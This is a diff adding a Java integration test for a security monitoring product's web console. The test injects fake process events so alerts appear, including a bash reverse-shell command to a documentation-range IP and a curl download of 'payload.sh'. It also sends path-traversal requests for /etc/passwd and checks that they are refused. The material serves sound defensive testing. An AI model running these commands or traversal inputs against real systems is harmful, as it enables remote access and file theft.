@@ -1,0 +1,120 @@
+package dev.kiroku.it.console;
+
+import dev.kiroku.event.Event;
+import dev.kiroku.event.NetworkActivity;
+import dev.kiroku.event.ProcessInfo;
+import dev.kiroku.event.ProcessStart;
+import dev.kiroku.server.KirokuServer;
+import dev.kiroku.server.ServerConfig;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.InstantSource;
+import java.util.ArrayList;
+import java.util.List;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/** The web console in a real headless Chromium against a real server holding real alerts and events. */
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class ConsoleTest {
+    private static final Duration PAGE = Duration.ofSeconds(20);
+
+    KirokuServer server;
+    HeadlessBrowser browser;
+    String base;
+
+    @BeforeAll
+    void start(@TempDir Path directory) throws Exception {
+        server = new KirokuServer(new ServerConfig(directory.resolve("server"), "127.0.0.1", 0, Duration.ofDays(30)),
+                InstantSource.system()).start();
+        base = "http://127.0.0.1:" + server.port();
+        Instant now = Instant.now();
+        ProcessInfo shell = process("e-shell", 5100, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
+        ProcessInfo curl = process("e-curl", 5200, "/usr/bin/curl", List.of("curl", "-s", "http://127.0.0.1:8080/payload.sh"));
+        List<Event> events = new ArrayList<>();
+        events.add(new Event("agent-console", 1, now, "web-1", List.of(), new ProcessStart(shell, false)));
+        events.add(new Event("agent-console", 2, now.plusMillis(3), "web-1", List.of(), new ProcessStart(curl, false)));
+        events.add(new Event("agent-console", 3, now.plusMillis(5), "web-1", List.of(),
+                new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, "127.0.0.1", 8080, true, curl)));
+        server.ingest().deliver(events);
+        var http = java.net.http.HttpClient.newHttpClient();
+        var alerts = java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/api/v1/alerts")).build();
+        await().atMost(Duration.ofSeconds(30)).until(() ->
+                http.send(alerts, java.net.http.HttpResponse.BodyHandlers.ofString()).body().contains("\"rule\""));
+        browser = new HeadlessBrowser();
+    }
+
+    private static ProcessInfo process(String entity, int pid, String executable, List<String> args) {
+        return new ProcessInfo(entity, pid, Instant.now(), new ProcessInfo.ParentRef("e-sshd", 900, "/usr/sbin/sshd", List.of("sshd")),
+                executable, args, "/root", null, new ProcessInfo.Credentials(0, "root", 0, "root", 0, 0, 0), 1, null, null);
+    }
+
+    @AfterAll
+    void stop() throws Exception {
+        if (browser != null) browser.close();
+        if (server != null) server.close();
+    }
+
+    @Test
+    void overviewShowsAlertsBySeverityAndTheAttackMatrix() throws Exception {
+        browser.open(base + "/");
+        browser.waitUntil("document.querySelector('.matrix .technique')", PAGE);
+        assertThat(browser.text("location.pathname")).isEqualTo("/console/");
+        assertThat(browser.eval("document.querySelectorAll('.matrix .technique.fired').length").asInt()).isPositive();
+        assertThat(browser.eval("document.querySelectorAll('svg.chart rect').length").asInt()).isPositive();
+        assertThat(browser.consoleErrors()).isEmpty();
+    }
+
+    @Test
+    void searchFindsEventsPivotsAndExportsCsv() throws Exception {
+        browser.open(base + "/console/#/search?q=process.name:curl&last=1h");
+        browser.waitUntil("document.querySelector('table.events tbody tr')", PAGE);
+        String firstRow = browser.text("document.querySelector('table.events tbody tr').innerText");
+        assertThat(firstRow).contains("curl");
+        String csv = browser.text("import('/console/js/pages/search.js').then(m => m.csv([{'process.name': 'a,b', 'x': 'q\"r'}], ['process.name', 'x']))");
+        assertThat(csv).isEqualTo("process.name,x\r\n\"a,b\",\"q\"\"r\"\r\n");
+        // field completion comes from the server's schema
+        browser.eval("(() => { const q = document.querySelector('input.query'); q.value = 'process.na'; q.setSelectionRange(10, 10); q.dispatchEvent(new Event('input')); })()");
+        browser.waitUntil("[...document.querySelectorAll('#field-names option')].some(o => o.value === 'process.name:')", PAGE);
+        assertThat(browser.consoleErrors()).isEmpty();
+    }
+
+    @Test
+    void alertPageShowsTheMatchedEventAndPreviewsAnException() throws Exception {
+        browser.open(base + "/console/#/alerts");
+        browser.waitUntil("document.querySelector('table.data tbody tr a[href^=\"#/alerts/\"]')", PAGE);
+        browser.eval("document.querySelector('table.data tbody tr a[href^=\"#/alerts/\"]').click()");
+        browser.waitUntil("document.querySelector('details.event')", PAGE);
+        assertThat(browser.text("document.querySelector('details.event').innerText")).contains("/dev/tcp/198.51.100.7/4444");
+        browser.eval("document.querySelector('label.check input').click()");
+        browser.eval("[...document.querySelectorAll('button')].find(b => b.textContent === 'Preview').click()");
+        browser.waitUntil("document.body.innerText.includes('Would suppress')", PAGE);
+        assertThat(browser.text("document.body.innerText")).containsPattern("Would suppress [1-9]\\d* of the last");
+    }
+
+    @Test
+    void rulesPageListsTheLoadedRules() throws Exception {
+        browser.open(base + "/console/#/rules");
+        browser.waitUntil("document.querySelectorAll('table.data tbody tr').length > 50", PAGE);
+        assertThat(browser.text("document.querySelector('h1').innerText")).containsPattern("\\d+ rules");
+    }
+
+    @Test
+    void unsafeOrUnknownConsolePathsAreNotServed() throws Exception {
+        var http = java.net.http.HttpClient.newHttpClient();
+        for (String path : List.of("/console/../../../etc/passwd", "/console/js/%2e%2e/x.js", "/console/nothing.js")) {
+            var response = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + path)).build(),
+                    java.net.http.HttpResponse.BodyHandlers.ofString());
+            assertThat(response.statusCode()).as(path).isIn(400, 404);
+            assertThat(response.body()).doesNotContain("root:");
+        }
+    }
+}
